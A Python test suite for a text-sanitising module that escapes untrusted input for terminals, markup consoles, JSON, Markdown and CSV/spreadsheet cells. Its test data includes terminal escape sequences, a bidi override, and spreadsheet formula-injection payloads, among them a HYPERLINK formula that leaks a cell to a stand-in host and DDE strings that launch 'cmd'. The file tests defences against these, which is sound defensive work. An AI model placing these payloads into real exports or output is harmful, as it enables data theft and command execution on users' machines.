"""Text of strangers, medium by medium: what would act is seen, and what is harmless stays as it is."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from revetl import safe_text as safe
from revetl.cli.safe_console import SafeConsole

# Signs of number and verse: format characters by category, and yet seen.
_SEEN = {chr(c) for c in (*range(0x600, 0x606), 0x6DD, 0x70F, 0x890, 0x891, 0x8E2, 0x110BD, 0x110CD)}
_STEERING = [
    character
    for character in map(chr, range(sys.maxunicode + 1))
    if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp") and character not in _SEEN
]
HOSTILE = st.lists(
    st.one_of(
        st.sampled_from(_STEERING),
        st.sampled_from(["\x1b[2J", "\x1b]0;x\x07", "\x9b31m", "\u202e", "[red]", "[/]", "[link=http://e.test]", "\\"]),
        st.sampled_from(["|", "`", "<b>", "&lt;", "@org/team", "#12", "https://e.test", "www.e.test", "=1+1", "\r\n"]),
        st.text(max_size=5),
    ),
    max_size=8,
).map("".join)


def steers(text: str, *, also: str = "") -> bool:
    return any(
        unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") for c in text if c not in _SEEN and c not in also
    )


def test_every_character_without_a_look_of_its_own_is_shown() -> None:
    assert [c for c in _STEERING if steers(safe.for_terminal(c))] == []
    assert safe.for_terminal("a\x1b[31mb\x9b\u202e\u200b\r\nc") == "a\\x1b[31mb\\x9b\\u202e\\u200b⏎c"


@pytest.mark.parametrize("text", ["Zoë O’Neill", "12\u00a0000 €", "東京都", "葛\U000e0100城", "❤\ufe0f", "a\\b", "‹·›"])
def test_what_is_seen_stays(text: str) -> None:
    assert safe.for_terminal(text) == text


@given(HOSTILE)
def test_no_line_steers_a_terminal(text: str) -> None:
    assert not steers(safe.for_terminal(text))
    lines = safe.for_terminal_lines(text)
    assert not steers(lines, also="\n\t")
    assert safe.for_terminal_lines(lines) == lines, "safe to repeat"


@given(HOSTILE)
def test_between_tags_a_bracket_is_a_bracket_and_no_other_tag_ends(text: str) -> None:
    out = io.StringIO()
    screen = SafeConsole(file=out, width=10_000, emoji=False, highlight=False, soft_wrap=True)
    screen.print(f"<[bold]{safe.for_markup(text)}[/]>{safe.for_markup(text)}.", end="")
    assert out.getvalue() == f"<{safe.for_terminal(text)}>{safe.for_terminal(text)}."


@given(HOSTILE)
def test_a_console_is_safe_where_a_renderer_forgot(text: str) -> None:
    out = io.StringIO()
    screen = SafeConsole(file=out, width=200, emoji=False, force_terminal=False)
    screen.print(text, markup=False)
    assert not steers(out.getvalue(), also="\n")


def test_no_address_of_a_tag_reaches_the_terminal() -> None:
    out = io.StringIO()
    SafeConsole(file=out, force_terminal=True, width=80).print("[link=http://e.test]x[/link]")
    assert "e.test" not in out.getvalue()


@given(HOSTILE)
def test_json_says_the_same_values(text: str) -> None:
    document = safe.for_json(json.dumps({"a": [text]}, indent=2, ensure_ascii=False))
    assert not steers(document, also="\n")
    (read,) = json.loads(document)["a"]
    # Two halves that follow each other are one character to JSON.
    assert read.encode("utf-16", "surrogatepass") == text.encode("utf-16", "surrogatepass")


@given(HOSTILE)
def test_a_cell_of_markdown_holds_no_markup(text: str) -> None:
    cell = safe.for_markdown(text)
    assert not steers(cell)
    bare = re.sub(r"\\.|&(amp|lt|gt);|<!-- -->", "", cell)
    assert not set(bare) & set("|`*_[]<>&")
    assert not re.search(r"(?i)(?<!\w)@\w|https?:(?!<)|www\.(?!<)|#\d", cell)


@pytest.mark.parametrize(
    ("cell", "is_formula"),
    [
        ('=HYPERLINK("http://e.test/?"&A1,"x")', True),
        ("@SUM(1+1)*cmd|' /C calc'!A0", True),
        ("-2+3+cmd|' /C calc'!A0", True),
        ("+A1", True),
        ("＝1+1", True),
        ("\t=1+1", True),
        ("  =1+1", True),
        ("a|\u00a0@SUM(1)", True),
        ("note;=1+1", True),
        ("line\n=1+1", True),
        ("+33123456789", False),
        ("+1 (555) 010-0000 x12", False),
        ("-5.25", False),
        ("1e5", False),
        ("a = b", False),
        ("you, @me", False),
        ("", False),
    ],
)
def test_what_a_spreadsheet_would_compute_is_text(cell: str, is_formula: bool) -> None:
    assert (safe.for_spreadsheet(cell) != cell) == is_formula


@given(HOSTILE)
def test_no_cell_begins_as_a_formula_whatever_the_delimiter_of_the_machine(text: str) -> None:
    written = io.StringIO()
    csv.writer(written, lineterminator="\n").writerow(["own", safe.for_spreadsheet(text)])
    for piece in re.split(r"[;\t\r\n|]", written.getvalue().removeprefix("own,").removeprefix('"')):
        start = piece.strip()
        assert not start.startswith(("=", "@", "＝", "＠"))
        assert not re.match(r"[+\-＋－].*[A-Za-z]{2}", start), "a name that can be called"
